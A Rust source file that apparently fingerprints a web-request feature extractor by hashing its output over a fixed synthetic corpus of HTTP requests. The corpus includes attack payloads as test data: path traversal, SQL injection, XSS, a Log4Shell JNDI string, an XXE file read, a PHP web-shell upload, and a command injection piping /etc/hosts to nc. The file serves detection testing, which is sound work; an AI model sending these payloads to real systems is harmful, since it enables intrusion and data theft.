//! The extractor's fingerprint: a hash of what it makes of a fixed synthetic corpus.

use sha2::{Digest, Sha256};

use crate::Extractor;
use crate::client::{ClientKey, ClientWindows};
use crate::field::Scratch;
use crate::request::{RequestContext, RequestView};
use crate::schema::{FIELD_WIDTH, SCHEMA_VERSION};

/// A request of the corpus: method, target, headers, body.
type Sample = (
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
    &'static str,
);

/// Requests that between them touch every decoder, format and column group.
const CORPUS: &[Sample] = &[
    (
        "GET",
        "/",
        &[
            ("Host", "a.example"),
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ],
        "",
    ),
    (
        "GET",
        "/a//b/./c\\d/..%2f..%2fetc/passwd?x=1%2527+or+1%3D1--&y=%u003cb%u003e&z=..0x2f..0x2f",
        &[],
        "",
    ),
    (
        "GET",
        "http://b.example/p?u=https%3A%2F%2Fc.example%2F%3Fq%3D%26lt%3Bi%26gt%3B&b=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        &[],
        "",
    ),
    (
        "GET",
        "/q?w=%EF%BC%9Cscript%EF%BC%9E&o=%c0%af%e0%80%af&j=%7B%22a%22%3A%5B1%2C%22b%5Cu0027%22%5D%7D",
        &[(
            "Cookie",
            "s=1; t={\"k\":\"v\"}; eyJ=eyJhbGciOiJub25lIn0.eyJzdWIiOiInIG9yIDEifQ.x",
        )],
        "",
    ),
    (
        "POST",
        "/form",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Referer", "https://d.example/x?y=z"),
        ],
        "a=1&b=two+words&c[d]=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    ),
    (
        "POST",
        "/json",
        &[("Content-Type", "application/json")],
        "{\"a\":{\"b\":[1,\"two\",null,true,{\"c\":\"${jndi:ldap://e/f}\"}]},\"a\":\"\\u003c\\/\"} {broken",
    ),
    (
        "POST",
        "/xml",
        &[("Content-Type", "text/xml")],
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a c=\"d\">&b;<e><![CDATA[f]]></e></a>",
    ),
    (
        "POST",
        "/multi",
        &[("Content-Type", "multipart/form-data; boundary=xx")],
        "--xx\r\nContent-Disposition: form-data; name=\"g\"; filename=\"h.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']);\r\n--xx\r\nContent-Disposition: form-data; name=\"i\"\r\n\r\nj; cat /etc/hosts | nc 127.0.0.1\r\n--xx--\r\n",
    ),
    (
        "POST",
        "/graphql",
        &[("Content-Type", "application/graphql")],
        "query { user(id: \"1' or '1'='1\") { name __typename } }",
    ),
    (
        "POST",
        "/text",
        &[("Content-Type", "text/plain")],
        "union was a great select, said O'Brien; rgb(1, 2, 3)\r\nSet-Cookie: k=l",
    ),
    (
        "POST",
        "/m;n=1/..;/o?p=un/**/ion+CHAR(97,98)&p=0x61646d696e&q=scr%00ipt&r=c'a't+$IFS&s=%2BADw-b%2BAD4-",
        &[("Content-Type", "text/plain; charset=ibm037")],
        "t=%98%7E%F1;u=2&\\3c b\\057&t='v'||'w'",
    ),
];

/// The schema version and a hash of rows and vectors over the corpus, as `v1-` and 16 hexadecimal digits.
///
/// Numbers are rounded to a thousandth first, so that another mathematics library does not change the fingerprint.
#[must_use]
pub fn fingerprint() -> String {
    let extractor = Extractor::shared();
    let mut scratch = Scratch::default();
    let mut row = vec![0.0; FIELD_WIDTH];
    let mut hash = Sha256::new();
    let windows = ClientWindows::new(4);
    let context = RequestContext {
        client: ClientKey(1),
        time: 1_700_000_000.0,
        private_address: false,
        country: None,
    };
    for (method, target, headers, body) in CORPUS {
        let headers: Vec<(&[u8], &[u8])> = headers
            .iter()
            .map(|(name, value)| (name.as_bytes(), value.as_bytes()))
            .collect();
        let request = RequestView {
            method: method.as_bytes(),
            target: target.as_bytes(),
            headers: &headers,
            body: body.as_bytes(),
            body_truncated: false,
        };
        for field in extractor.extract(&request, &mut scratch).iter() {
            hash.update((field.key.len() as u64).to_le_bytes());
            hash.update(field.key);
            hash.update(field.value);
            extractor.row(&field, &mut row);
            update(&mut hash, &row);
        }
        update(&mut hash, &windows.request(&request, &context));
        windows.response(context.client, context.time, 404, 100);
    }
    let digest = hash.finalize();
    let short: String = digest
        .iter()
        .take(8)
        .map(|byte| format!("{byte:02x}"))
        .collect();
    format!("v{SCHEMA_VERSION}-{short}")
}

fn update(hash: &mut Sha256, numbers: &[f32]) {
    for number in numbers {
        let rounded = if number.is_nan() {
            i32::MIN
        } else {
            (number * 1000.0).round() as i32
        };
        hash.update(rounded.to_le_bytes());
    }
}
